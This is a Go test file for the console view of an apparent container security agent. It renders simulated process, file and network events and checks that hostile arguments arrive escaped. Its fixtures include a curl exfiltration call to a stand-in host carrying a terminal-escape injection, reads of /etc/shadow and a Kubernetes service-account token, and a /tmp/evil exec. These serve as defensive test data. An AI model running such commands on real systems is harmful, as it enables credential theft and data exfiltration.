package console

import (
	"bytes"
	"context"
	"errors"
	"flag"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cloud-defend/cloud-defend/ecs"
	"github.com/cloud-defend/cloud-defend/enrich"
	"github.com/cloud-defend/cloud-defend/enrich/host"
	"github.com/cloud-defend/cloud-defend/enrich/proctree"
	"github.com/cloud-defend/cloud-defend/event"
	"github.com/cloud-defend/cloud-defend/policy"
)

var update = flag.Bool("update", false, "regenerate testdata/stream.ndjson with the encoder, and the golden files")

type nopLog struct{}

func (nopLog) Infof(string, ...any)  {}
func (nopLog) Warnf(string, ...any)  {}
func (nopLog) Errorf(string, ...any) {}

var boot = time.Date(2026, 11, 22, 8, 0, 0, 0, time.UTC)

// stream encodes, with the real encoder, what a node sees in a few seconds:
// an exec in a pod's container, a blocked exec (an alert that is also
// logged), a file alert also logged, the node's own sshd, a fork, an exec
// with long and hostile arguments, its blocked connect (an alert also
// logged) and its end in a container outside Kubernetes, a bind and an
// accept (IPv6) logged in the pod, a heartbeat and metrics.
func stream(t testing.TB) [][]byte {
	selectors := map[string][]string{"/bin/cat": {"logExecs"}, "/tmp/evil": {"binDrift", "noTmpExec"}, "/etc/shadow": {"shadowRead"},
		"/usr/sbin/sshd": {"nodeExecs"}, "": {"logExecs"}, "/usr/bin/curl": {"logExecs"}}
	netSelectors := map[policy.Op][]string{policy.OpConnect: {"noExfil"}, policy.OpAccept: {"logListeners"}, policy.OpBind: {"logListeners"}}
	enc := ecs.NewEncoder(ecs.Agent{ID: "agent-1", Version: "0.1.0"},
		host.Host{Hostname: "node-1", Name: "node-1", Architecture: "x86_64", OS: host.OS{Family: "debian", Kernel: "6.8.0"}}, nil, boot,
		func(ev *event.Event) ([]string, error) {
			if ev.Kind == event.NetworkDecision {
				return netSelectors[ev.Op], nil
			}
			return selectors[ev.Path], nil
		})
	meta := ecs.Meta{Namespace: "default", PackagePolicyID: "pp-1", Revision: 3}
	var docs [][]byte
	emit := func(d ecs.Doc) { docs = append(docs, slices.Clone(d.Body)) }

	priv := false
	pod := &enrich.Pod{ClusterName: "prod", Namespace: "web", Name: "nginx-7d9f8", ParentType: "ReplicaSet", Labels: []string{"app:nginx"}}
	inPod := &enrich.Container{ID: "3f1c2a9b0d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8", Runtime: "containerd", ImageName: "nginx", ImageTag: "1.27", Privileged: &priv, PodUID: "uid-1"}
	bare := &enrich.Container{ID: "9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a0f9e8d", Runtime: "docker", ImageName: "alpine"}
	sh := proctree.Process{PID: 70, PPID: 50, Start: 2 * time.Second, EntityID: proctree.EntityID("agent-1", 70, 2*time.Second),
		Executable: "/bin/sh", Name: "sh", Args: []string{"sh"}, Interactive: true, TTYMajor: 136}
	view := func(p proctree.Process) *proctree.View {
		parent, entry := sh, sh
		entry.EntryMetaType = proctree.EntryContainer
		return &proctree.View{Process: p, Parent: &parent, EntryLeader: &proctree.Leader{Process: entry}}
	}
	proc := func(pid uint32, start time.Duration, comm string) event.Process {
		return event.Process{PID: pid, TID: pid, PPID: 70, Start: start, Comm: comm}
	}
	cat := proctree.Process{PID: 71, PPID: 70, Start: 3 * time.Second, EntityID: proctree.EntityID("agent-1", 71, 3*time.Second),
		Executable: "/bin/cat", Name: "cat", Args: []string{"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"}}
	evil := proctree.Process{PID: 72, PPID: 70, Start: 4 * time.Second, EntityID: proctree.EntityID("agent-1", 72, 4*time.Second),
		Executable: "/bin/sh", Name: "sh", Args: []string{"sh"}}
	reader := proctree.Process{PID: 73, PPID: 70, Start: 5 * time.Second, EntityID: proctree.EntityID("agent-1", 73, 5*time.Second),
		Executable: "/usr/bin/python3", Name: "python3", Args: []string{"python3", "-c", "open('/etc/shadow')"}}
	sshd := proctree.Process{PID: 900, PPID: 1, Start: time.Second, EntityID: proctree.EntityID("agent-1", 900, time.Second),
		Executable: "/usr/sbin/sshd", Name: "sshd", Args: []string{"/usr/sbin/sshd", "-D"}}
	child := proctree.Process{PID: 74, PPID: 70, Start: 7 * time.Second, EntityID: proctree.EntityID("agent-1", 74, 7*time.Second),
		Executable: "/bin/sh", Name: "sh", Args: []string{"sh"}}
	curl := proctree.Process{PID: 75, PPID: 70, Start: 8 * time.Second, EntityID: proctree.EntityID("agent-1", 75, 8*time.Second),
		Executable: "/usr/bin/curl", Name: "curl", Args: []string{"curl", "-s", "-H", "X-Evil: \x1b]0;pwned\x07", "https://exfil.example.com/upload?data=" + strings.Repeat("A", 80)}}
	nginx := proctree.Process{PID: 76, PPID: 1, Start: 2 * time.Second, EntityID: proctree.EntityID("agent-1", 76, 2*time.Second),
		Executable: "/usr/sbin/nginx", Name: "nginx", Args: []string{"nginx", "-g", "daemon off;"}}
	curlEnd := curl
	curlEnd.Exited, curlEnd.End, curlEnd.ExitKnown, curlEnd.Exit = true, 10*time.Second, true, proctree.Exit{Code: 6}

	type recorded struct {
		ev  event.Event
		ctx *enrich.Context
	}
	events := []recorded{
		{event.Event{Kind: event.ProcessDecision, Time: 3*time.Second + 123456789, Op: policy.OpExec, Actions: policy.ActionLog, Path: "/bin/cat", Process: proc(71, 3*time.Second, "sh")},
			&enrich.Context{Process: view(cat), Container: inPod, Pod: pod}},
		{event.Event{Kind: event.ProcessDecision, Time: 4*time.Second + 5e8, Op: policy.OpExec, Actions: policy.ActionLog | policy.ActionAlert | policy.ActionBlock, Blocked: true,
			Path: "/tmp/evil", Process: proc(72, 4*time.Second, "sh")}, &enrich.Context{Process: view(evil), Container: inPod, Pod: pod}},
		{event.Event{Kind: event.FileDecision, Time: 5*time.Second + 250e6, Op: policy.OpModifyFile, Hook: 1, Actions: policy.ActionLog | policy.ActionAlert,
			Path: "/etc/shadow", Process: proc(73, 5*time.Second, "python3")}, &enrich.Context{Process: view(reader), Container: inPod, Pod: pod}},
		{event.Event{Kind: event.ProcessDecision, Time: 6 * time.Second, Op: policy.OpExec, Actions: policy.ActionLog, Path: "/usr/sbin/sshd",
			Process: event.Process{PID: 900, PPID: 1, Start: time.Second, Comm: "sshd"}}, &enrich.Context{Process: &proctree.View{Process: sshd}}},
		{event.Event{Kind: event.ProcessDecision, Time: 7 * time.Second, Op: policy.OpFork, Actions: policy.ActionLog, Process: proc(74, 7*time.Second, "sh")},
			&enrich.Context{Process: view(child), Container: inPod, Pod: pod}},
		{event.Event{Kind: event.ProcessDecision, Time: 8 * time.Second, Op: policy.OpExec, Actions: policy.ActionLog, Path: "/usr/bin/curl", Process: proc(75, 8*time.Second, "sh")},
			&enrich.Context{Process: view(curl), Container: bare}},
		{event.Event{Kind: event.NetworkDecision, Time: 8*time.Second + 5e8, Op: policy.OpConnect, Hook: event.HookSocketConnect,
			Actions: policy.ActionLog | policy.ActionAlert | policy.ActionBlock, Blocked: true, Protocol: event.ProtocolTCP,
			Source: netip.MustParseAddrPort("172.17.0.3:40312"), Destination: netip.MustParseAddrPort("203.0.113.9:443"), Direction: event.DirectionEgress,
			Process: proc(75, 8*time.Second, "curl")}, &enrich.Context{Process: view(curl), Container: bare}},
		{event.Event{Kind: event.NetworkDecision, Time: 9 * time.Second, Op: policy.OpBind, Hook: event.HookSocketBind, Actions: policy.ActionLog,
			Protocol: event.ProtocolUDP, Source: netip.MustParseAddrPort("0.0.0.0:8080"), Process: event.Process{PID: 76, TID: 76, PPID: 1, Start: 2 * time.Second, Comm: "nginx"}},
			&enrich.Context{Process: &proctree.View{Process: nginx}, Container: inPod, Pod: pod}},
		{event.Event{Kind: event.NetworkDecision, Time: 9*time.Second + 5e8, Op: policy.OpAccept, Hook: event.HookSocketAccept, Actions: policy.ActionLog,
			Protocol: event.ProtocolTCP, Source: netip.MustParseAddrPort("[::1]:5000"), Destination: netip.MustParseAddrPort("[::1]:8080"), Direction: event.DirectionIngress,
			Process: event.Process{PID: 76, TID: 76, PPID: 1, Start: 2 * time.Second, Comm: "nginx"}},
			&enrich.Context{Process: &proctree.View{Process: nginx}, Container: inPod, Pod: pod}},
		{event.Event{Kind: event.Exit, Time: 10 * time.Second, Actions: policy.ActionLog, Path: "/usr/bin/curl", ExitCode: 6 << 8, Process: proc(75, 8*time.Second, "curl")},
			&enrich.Context{Process: view(curlEnd), Container: bare}},
	}
	for i := range events {
		if err := enc.EncodeAll(&events[i].ev, events[i].ctx, meta, emit); err != nil {
			t.Fatal(err)
		}
	}
	emit(enc.Heartbeat(meta, true, boot.Add(11*time.Second)))
	emit(enc.Metrics(meta, ecs.Counters{Events: 1200, RingDrops: 0, Published: 9, Acked: 9, ProcessesTracked: 42}, boot.Add(11*time.Second)))
	return docs
}

var views = []struct {
	golden string
	opt    Options
}{
	{"default.golden", Options{Width: 110}},
	{"all.golden", Options{ShowNode: true, ShowMetrics: true}},
}

// render shows docs through a Console, as the daemon feeds it.
func render(t *testing.T, docs [][]byte, opt Options) string {
	t.Helper()
	opt.Location = time.UTC
	var out bytes.Buffer
	c := New(&out, opt, nopLog{})
	for _, d := range docs {
		if err := c.Publish("s", "id", d); err != nil {
			t.Fatal(err)
		}
	}
	c.Flush()
	if err := c.Close(context.Background()); err != nil {
		t.Fatal(err)
	}
	st := c.Stats()
	if st.Published != int64(len(docs)) || st.Shown+st.Hidden+st.Deduped+st.Malformed != st.Published || st.Malformed != 0 {
		t.Errorf("stats %+v", st)
	}
	return out.String()
}

func readStream(t *testing.T) [][]byte {
	data, err := os.ReadFile(filepath.Join("testdata", "stream.ndjson"))
	if err != nil {
		t.Fatal(err)
	}
	return bytes.Split(bytes.TrimSuffix(data, []byte("\n")), []byte("\n"))
}

// TestRecordedStream renders the recorded documents and checks the lines
// against the golden files. Run with -update to record the stream afresh
// from the encoder and rewrite the golden files.
func TestRecordedStream(t *testing.T) {
	if *update {
		var b []byte
		for _, d := range stream(t) {
			b = append(append(b, d...), '\n')
		}
		if err := os.WriteFile(filepath.Join("testdata", "stream.ndjson"), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	docs := readStream(t)
	for _, v := range views {
		got := render(t, docs, v.opt)
		path := filepath.Join("testdata", v.golden)
		if *update {
			if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		want, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if got != string(want) {
			t.Errorf("%s: got\n%s\nwant\n%s", v.golden, got, want)
		}
	}
}

// TestFreshStream: what the encoder makes today renders as the recording
// did; the view still reads the fields the encoder writes.
func TestFreshStream(t *testing.T) {
	docs := stream(t)
	if len(docs) != len(readStream(t)) {
		t.Fatalf("the encoder makes %d documents, the recording has %d: run go test -update", len(docs), len(readStream(t)))
	}
	for _, v := range views {
		want, _ := os.ReadFile(filepath.Join("testdata", v.golden))
		if got := render(t, docs, v.opt); got != string(want) {
			t.Errorf("%s: got\n%s\nwant\n%s", v.golden, got, want)
		}
	}
}

// TestDedupe: the alert and its event document make one line, the alert's,
// whichever comes first, also across batches.
func TestDedupe(t *testing.T) {
	docs := readStream(t)
	var alert, evDoc []byte
	for i, d := range docs {
		if bytes.Contains(d, []byte(`"kind":"alert"`)) && bytes.Contains(d, []byte(`/etc/shadow`)) {
			alert, evDoc = d, docs[i+1]
		}
	}
	if evDoc == nil || !bytes.Contains(evDoc, []byte(`"kind":"event"`)) {
		t.Fatal("no file alert followed by its event in the recording")
	}
	for name, order := range map[string][][][]byte{
		"alert first":         {{alert, evDoc}},
		"event first":         {{evDoc, alert}},
		"alert, later batch":  {{alert}, {evDoc}},
		"two separate events": {{evDoc}, {evDoc}},
	} {
		r := NewRenderer(Options{Location: time.UTC})
		var out []byte
		for _, batch := range order {
			out = r.Render(out, batch)
		}
		lines := strings.Count(string(out), "\n")
		wantLines, alerts := 1, 1
		if name == "two separate events" {
			wantLines, alerts = 2, 0
		}
		if lines != wantLines || strings.Count(string(out), "ALERT") != alerts {
			t.Errorf("%s: %q", name, out)
		}
	}
}

// TestColor: with colour, the marks are coloured; without, no escape at all
// reaches the output, also from hostile arguments.
func TestColor(t *testing.T) {
	docs := readStream(t)
	got := render(t, docs, Options{Color: true})
	for _, want := range []string{red + "BLOCKED" + reset, yellow + "ALERT  " + reset, cyan + "web/nginx-7d9f8" + reset, magenta + "[shadowRead]" + reset} {
		if !strings.Contains(got, want) {
			t.Errorf("no %q in\n%s", want, got)
		}
	}
	plain := render(t, docs, Options{ShowNode: true, ShowMetrics: true})
	if strings.Contains(plain, "\x1b") || strings.Contains(plain, "\x07") {
		t.Errorf("an escape reached the terminal:\n%q", plain)
	}
	if !strings.Contains(plain, `X-Evil: \x1b]0;pwned\x07`) {
		t.Errorf("hostile argument not shown escaped:\n%s", plain)
	}
}

func TestClean(t *testing.T) {
	for in, want := range map[string]string{"plain é": "plain é", "a\x1b[31mb": `a\x1b[31mb`, "nl\n": `nl\x0a`, "c1\u009b": `c1\u009b`, "bad\xff": `bad\xff`, "del\x7f": `del\x7f`} {
		if got := clean(in); got != want {
			t.Errorf("clean(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCut(t *testing.T) {
	if got := cut("abcdefgh", 5); got != "abcd…" {
		t.Errorf("cut %q", got)
	}
	if got := cut("ééé", 3); got != "ééé" {
		t.Errorf("cut %q", got)
	}
}

// TestWidth: with a width, long exec lines are cut to it.
func TestWidth(t *testing.T) {
	for _, l := range strings.Split(strings.TrimSuffix(render(t, readStream(t), Options{Width: 110}), "\n"), "\n") {
		if n := runes(l); n > 110 {
			t.Errorf("%d characters: %s", n, l)
		}
	}
}

// TestStalledTerminal: a terminal that does not read costs dropped lines,
// never a blocked Publish.
func TestStalledTerminal(t *testing.T) {
	s := &stuck{release: make(chan struct{})}
	c := New(s, Options{QueueBytes: 32 << 10, Location: time.UTC}, nopLog{})
	docs := readStream(t)
	done := make(chan struct{})
	go func() {
		for i := range 2000 {
			if err := c.Publish("s", "id", docs[i%len(docs)]); err != nil {
				t.Error(err)
			}
			c.Flush()
		}
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(10 * time.Second):
		t.Fatal("Publish blocked on a stalled terminal")
	}
	if d, msg := c.Health(); !d || !strings.Contains(msg, "could not keep up") {
		t.Errorf("health %v %q", d, msg)
	}
	close(s.release)
	if err := c.Close(context.Background()); err != nil {
		t.Fatal(err)
	}
	st := c.Stats()
	if st.DroppedFull == 0 || st.Published != 2000 || st.Shown+st.Hidden+st.Deduped+st.Dropped != 2000 {
		t.Errorf("stats %+v", st)
	}
	if err := c.Publish("s", "id", docs[0]); !errors.Is(err, ErrClosed) {
		t.Errorf("publish after close: %v", err)
	}
}

type stuck struct {
	release chan struct{}
	mu      sync.Mutex
	n       int
}

func (s *stuck) Write(p []byte) (int, error) {
	<-s.release
	s.mu.Lock()
	s.n += len(p)
	s.mu.Unlock()
	return len(p), nil
}

func TestIsTerminal(t *testing.T) {
	f, err := os.CreateTemp(t.TempDir(), "x")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if IsTerminal(f) {
		t.Error("a regular file is a terminal")
	}
}
